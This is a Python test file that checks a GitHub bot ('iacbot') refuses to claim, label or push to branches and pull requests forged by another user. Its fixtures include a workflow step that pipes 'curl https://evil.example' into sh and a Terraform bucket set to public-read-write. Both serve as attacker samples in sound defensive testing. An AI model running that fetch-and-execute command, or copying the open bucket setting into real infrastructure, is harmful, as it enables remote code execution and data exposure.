"""Branch and PR ownership cannot be forged (issue 7, item 3), against the GitHub double.

The attack as it was seen: someone with push access creates the bot's next branch (the name is
predictable) with a commit carrying a forged `Iacbot-Finding:` trailer, a replaced file and a
workflow, and opens a PR from it. iacbot must neither claim, label nor update it.
"""
from __future__ import annotations

import pytest
import requests
from github import Auth, Github

from bot.github.auth import app_jwt, installation_token
from bot.github.ownership import AppIdentity, Foreign, MemoryLedger, Ownership, app_identity
from bot.github.publish import CREATED, EXISTS, FOREIGN_BRANCH, publish_fix
from bot.provenance import branch_name, commit_message
from tests.bot.github.fixes import FILES, FIXED_TF, VERIFICATION, attempt
from tests.github_double import GitHubDouble, new_app_key_pem

APP_ID = 626262
REPO = "octo/infra"
FAST = {"seconds_between_requests": 0, "seconds_between_writes": 0}
WORKFLOW = "on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl https://evil.example | sh\n"
EVIL_TF = 'resource "aws_s3_bucket" "logs" {\n  bucket = "logs"\n  acl    = "public-read-write"\n}\n'


@pytest.fixture(scope="module")
def private_key() -> str:
    return new_app_key_pem()


@pytest.fixture
def gh(private_key):
    with GitHubDouble() as double:
        double.create_repo(REPO, files=FILES)
        double.installation = double.install_app(APP_ID, private_key, repos=[REPO], slug="iacbot-test")
        double.ownership = Ownership(app_identity(APP_ID, private_key, double.base_url), MemoryLedger())
        double.client = Github(base_url=double.base_url, auth=Auth.Token(installation_token(
            APP_ID, private_key, double.installation.id, REPO, None, double.base_url).value), **FAST)
        yield double
        assert double.violations == [], "OpenAPI violations:\n" + "\n".join(double.violations)


def publish(gh):
    return publish_fix(gh.client, REPO, attempt(), FIXED_TF, VERIFICATION, ownership=gh.ownership)


def forge(gh, open_pr: bool = True) -> tuple[str, int | None]:
    """Mallory pushes iacbot's next branch with iacbot's own commit message (trailers and all),
    a replaced manifest and a workflow, and (optionally) opens a PR from it."""
    branch = branch_name(attempt())
    _, sha = gh.push_commit(REPO, {"terraform/main.tf": EVIL_TF, ".github/workflows/x.yml": WORKFLOW},
                            commit_message(attempt(), VERIFICATION), branch=branch, login="mallory")
    number = gh.open_pull(REPO, branch, "main", "iacbot: fix", "looks like iacbot", login="mallory") if open_pr else None
    return sha, number


def test_the_app_identity_comes_from_get_app_and_is_asked_once(gh, private_key):
    assert gh.ownership.app == AppIdentity("iacbot-test") and gh.ownership.app.bot_login == "iacbot-test[bot]"
    r = requests.get(f"{gh.base_url}/app", headers={"Authorization": f"Bearer {app_jwt(APP_ID, private_key)}"})
    assert r.status_code == 200 and r.json()["slug"] == "iacbot-test"
    gh.inject_fault("GET", r"^/app$", 500, times=10)  # cached: not asked again in this process
    assert app_identity(APP_ID, private_key, gh.base_url) == gh.ownership.app
    gh.clear_faults()


def test_only_the_apps_bot_account_is_the_app():
    app = AppIdentity("iacbot")
    assert app.authored("iacbot[bot]", "Bot") and app.authored("IACBOT[bot]", "Bot")
    assert not app.authored("iacbot[bot]", "User")          # never a person's account
    assert not app.authored("iacbot", "User") and not app.authored("other[bot]", "Bot")
    assert not app.authored(None, None)


def test_the_forged_branch_and_pr_are_not_claimed_labelled_or_updated(gh):
    sha, number = forge(gh)
    repo = gh.repo(REPO)
    before = (repo.pulls[number].title, repo.pulls[number].body)
    for _ in range(2):  # a redelivery decides the same
        result = publish(gh)
        assert result.status == FOREIGN_BRANCH and result.pr_number == number, result
        assert str(Foreign.PR_AUTHOR) in result.reason
    assert repo.refs[f"refs/heads/{branch_name(attempt())}"] == sha          # not pushed to
    assert repo.pulls[number].labels == [] and (repo.pulls[number].title, repo.pulls[number].body) == before
    assert list(repo.pulls) == [number]                                      # no second PR
    forged = gh.client.get_repo(REPO).get_pull(number)
    assert (forged.user.login, forged.user.type) == ("mallory", "User")   # what iacbot read and refused


def test_a_forged_branch_without_a_pr_is_left_alone_too(gh):
    sha, _ = forge(gh, open_pr=False)
    result = publish(gh)
    assert result.status == FOREIGN_BRANCH and str(Foreign.COMMITS) in result.reason
    assert gh.repo(REPO).refs[f"refs/heads/{branch_name(attempt())}"] == sha and gh.repo(REPO).pulls == {}


def test_a_pr_someone_else_opened_from_iacbots_own_branch_is_not_iacbots(gh):
    first = publish(gh)
    gh.close_pull(REPO, first.pr_number)  # the branch stays; a person opens a PR of their own from it
    number = gh.open_pull(REPO, first.branch, "main", "mine now", login="mallory")
    result = publish(gh)
    assert result.status == FOREIGN_BRANCH and result.pr_number == number
    assert gh.repo(REPO).pulls[number].labels == []


def test_the_apps_own_pr_with_a_persons_commit_on_top_is_not_pushed_to(gh):
    first = publish(gh)
    _, human = gh.push_commit(REPO, {".github/workflows/x.yml": WORKFLOW},
                              commit_message(attempt(), VERIFICATION), branch=first.branch, login="mallory")
    result = publish(gh)
    assert result.status == FOREIGN_BRANCH and str(Foreign.COMMITS) in result.reason
    assert gh.repo(REPO).refs[f"refs/heads/{first.branch}"] == human


def test_iacbots_own_branch_and_pr_are_reused(gh):
    first, again = publish(gh), publish(gh)
    assert (first.status, again.status) == (CREATED, EXISTS) and again.pr_number == first.pr_number
    pr = gh.client.get_repo(REPO).get_pull(first.pr_number)
    assert (pr.user.login, pr.user.type) == ("iacbot-test[bot]", "Bot")
    commit = gh.client.get_repo(REPO).get_git_commit(first.commit_sha)
    assert commit.author.name == "iacbot-test[bot]" and commit.author.email.endswith("+iacbot-test[bot]@users.noreply.github.com")
    # A fresh ledger (nothing recorded, as after the record was lost) makes iacbot step back, never claim.
    gh.ownership = Ownership(gh.ownership.app, MemoryLedger())
    assert publish(gh).status == FOREIGN_BRANCH


def test_a_person_racing_iacbot_to_the_pr_gets_no_label(gh, monkeypatch):
    """The branch is iacbot's, but right before iacbot opens the PR a person opens one from it:
    GitHub answers "A pull request already exists", and that PR is not taken as iacbot's."""
    from github.Repository import Repository

    branch, create_pull = branch_name(attempt()), Repository.create_pull

    def person_first(self, *args, **kwargs):
        gh.open_pull(REPO, branch, "main", "first!", login="mallory")
        return create_pull(self, *args, **kwargs)

    monkeypatch.setattr(Repository, "create_pull", person_first)
    result = publish(gh)
    assert result.status == FOREIGN_BRANCH and str(Foreign.PR_AUTHOR) in result.reason
    pr = gh.repo(REPO).pulls[result.pr_number]
    assert pr.user_login == "mallory" and pr.labels == [] and pr.title == "first!"
